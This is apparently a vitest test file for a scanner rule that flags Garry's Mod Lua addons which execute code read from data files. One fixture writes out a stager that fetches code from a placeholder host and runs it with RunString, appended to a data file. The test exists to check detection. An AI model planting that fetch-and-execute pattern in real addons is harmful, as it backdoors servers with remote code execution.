// Valid and invalid cases of the `datafile_execution` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './datafile_execution.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('datafile_execution', () => {
  it('data file executed', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'hook.Add("Initialize", "x", function() local s = file.Read("xlib/cache.dat", "DATA") if s then RunString(s) end end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('stager appended to a data file', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'file.Append("other/boot.txt", "http.Fetch(\\"https://a.invalid\\", function(b) RunString(b) end)")',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('shipped Lua config compiled', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local src = file.Read("myaddon/config.lua", "LUA")\nlocal f = CompileString(src, "cfg", false)\nif isfunction(f) then f() end',
    });
    expect(findings.length).toBeGreaterThan(0);
    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
  });
});
